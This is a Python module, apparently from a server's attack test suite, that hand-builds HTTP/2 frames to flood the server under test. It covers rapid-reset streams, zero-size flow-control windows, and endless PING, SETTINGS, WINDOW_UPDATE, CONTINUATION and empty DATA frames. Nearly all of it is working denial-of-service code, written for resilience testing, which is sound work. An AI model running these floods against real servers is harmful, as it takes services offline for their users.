"""HTTP/2: streams that are reset at once, windows that never open, and control frames without end."""

from __future__ import annotations

import struct

from tests.attack.attackers import Attacker, attack
from tests.attack.attackers.wire import SMALL, connected, cut_off, push, read_some

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A field that is not put into the table (RFC 7541, 6.2.2)."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


GET = b"".join(
    literal(name, value)
    for name, value in (
        (b":method", b"GET"),
        (b":scheme", b"http"),
        (b":path", b"/healthz"),
        (b":authority", b"localhost"),
    )
)


@attack
def reset_streams(attacker: Attacker) -> None:
    """Requests that are taken back as soon as they are made."""
    flood(
        attacker,
        lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) + frame(RESET, 0, stream, b"\0\0\0\x08"),
    )


@attack
def closed_windows(attacker: Attacker) -> None:
    """Requests whose answers there is no room for."""
    settings = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    flood(attacker, lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, GET), first=settings)


@attack
def control_frames(attacker: Attacker) -> None:
    """Pings, settings, windows and continuations, of which no answer is read."""
    kind = attacker.random.choice(["pings", "settings", "windows", "continuations", "empty data"])
    frames = {
        "pings": lambda _: frame(PING, 0, 0, b"12345678"),
        "settings": lambda _: frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100) * 20),
        "windows": lambda _: frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01"),
        "continuations": lambda stream: frame(HEADERS, 0, 1, GET) if stream == 1 else frame(CONTINUATION, 0, 1, b""),
        "empty data": lambda stream: frame(HEADERS, END_HEADERS, 1, GET) if stream == 1 else frame(DATA, 0, 1, b""),
    }
    flood(attacker, frames[kind])


def flood(attacker: Attacker, made, first: bytes = b"") -> None:
    """Send what is made for each stream, on one connection after the other, and read now and then or never."""
    while attacker.going:
        reads = attacker.random.random() < 0.5
        with cut_off():
            connection = connected(attacker.port(), buffer=SMALL)
            connection.sendall(PREFACE + (first or frame(SETTINGS, 0, 0)))
            stream = 1
            while attacker.going and stream < 200_000:
                burst = b"".join(made(number) for number in range(stream, stream + 400, 2))
                if not push(attacker, connection, burst):
                    break
                if reads:
                    read_some(connection, 65536, 0.01)
                stream += 400
                attacker.made(200)
            connection.close()
